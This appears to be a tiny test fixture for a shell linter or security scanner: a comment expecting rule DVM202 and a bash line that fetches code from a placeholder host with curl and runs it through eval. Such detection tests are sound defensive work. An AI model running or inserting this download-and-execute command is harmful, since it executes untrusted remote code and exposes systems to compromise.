# expect: DVM202
printf -v code '%s' "$(curl -s https://x.example.org/a)"; eval "$code"
